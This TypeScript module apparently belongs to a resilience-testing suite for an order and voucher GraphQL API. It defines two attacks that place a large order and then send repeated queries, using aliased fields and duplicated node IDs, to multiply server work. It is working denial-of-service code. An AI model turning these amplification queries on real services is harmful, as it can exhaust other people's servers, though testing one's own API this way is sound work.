import type { Attack } from './attack.ts';
import { placeLargeOrder } from './place-large-order.ts';
import { graphqlRequest, sendRepeatedly } from './send-repeatedly.ts';

const ids = (id: string): readonly string[] => Array(50).fill(id);
const aliases = (count: number, field: string) =>
  Array.from({ length: count }, (_, index) => `a${index}: ${field}`).join(' ');

export const forbiddenFields: Attack = {
  id: 'forbidden-fields',
  description: '200,000 occurrences of fields that the caller may not see, in an order of 100 products',
  permissions: ['PROCESS_POSTAL_DELIVERY'],
  async run(target) {
    const { orderId } = await placeLargeOrder(target);
    const query = `query ($i: [ID!]!) { n0: nodes(ids: $i) { ...F } n1: nodes(ids: $i) { ...F } }
      fragment F on Order { products: soldVouchers { ${aliases(20, 'redemptions { nodes { id } }')} } }`;
    return sendRepeatedly(target, () => graphqlRequest(query, { i: ids(orderId) }));
  },
};

export const repeatedEvents: Attack = {
  id: 'repeated-events',
  description: 'the event of an order of 100 products, selected 750 times',
  permissions: ['PROCESS_POSTAL_DELIVERY'],
  async run(target) {
    const { eventId } = await placeLargeOrder(target);
    const query = `query ($i: [ID!]!) { ${aliases(15, 'nodes(ids: $i) { ...F }')} }
      fragment F on OrderCreatedEvent { orderSnapshot { products: soldVouchers { databaseId } } }`;
    return sendRepeatedly(target, () => graphqlRequest(query, { i: ids(eventId) }));
  },
};
